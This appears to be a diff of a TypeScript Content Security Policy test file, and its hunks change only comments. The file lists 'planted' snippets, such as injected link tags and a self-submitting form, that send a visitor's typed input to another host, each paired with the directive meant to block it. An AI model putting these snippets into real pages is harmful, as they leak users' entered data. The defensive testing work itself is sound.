@@ -1,9 +1,9 @@
-/** Code that sends what was typed away, as it may come in with a careless or hostile change of a script. */
+/** Code that sends typed data away, as a careless or malicious script change might add it. */
 export interface Plant {
   readonly name: string;
   /** `elsewhere` is another host, `here` the page's own address, `typed` what a visitor has entered. */
   readonly code: string;
-  /** The part of the policy that stops it; `throws` where the browser does not even try. */
+  /** The part of the policy that blocks it; `throws` where the browser doesn't even try. */
   readonly stoppedBy: string;
 }
 
@@ -13,7 +13,7 @@ const element = (tag: string, properties: string): string =>
 const link = (rel: string, more = ''): string =>
   `document.head.append(Object.assign(document.createElement('link'), {rel: '${rel}', href: elsewhere + '/?${rel}', ${more}}))`;
 
-/** A form that sends itself; the page's own check of forms is not asked. */
+/** A form that submits itself, bypassing the page's own check of forms. */
 const form = (action: string, method: string): string =>
   `const form = Object.assign(document.createElement('form'), {action: ${action}, method: '${method}'});
    form.append(Object.assign(document.createElement('input'), {name: 'weight', value: typed}));
@@ -130,7 +130,7 @@ const LOADS: readonly Plant[] = [
   },
 ];
 
-/** Everything that makes code or looks of text. */
+/** Everything that creates code or styles from text. */
 const TEXTS: readonly Plant[] = [
   { name: 'eval', code: `(0, eval)('document.title = 1')`, stoppedBy: 'script-src' },
   { name: 'new Function', code: `new Function('document.title = 1')()`, stoppedBy: 'script-src' },
@@ -168,7 +168,7 @@ const TEXTS: readonly Plant[] = [
 
 export const PLANTS: readonly Plant[] = [...CALLS, ...LOADS, ...TEXTS];
 
-/** All of them as one script: `plants[name]()` carries one out, and `said[name]` is what the browser said to it. */
+/** All of them as one script: `plants[name]()` runs one, and `said[name]` is the browser's error. */
 export const plantedScript = (elsewhere: string): string => `;
 (() => {
   const elsewhere = ${JSON.stringify(elsewhere)}, here = location.origin + location.pathname, typed = '71.3';
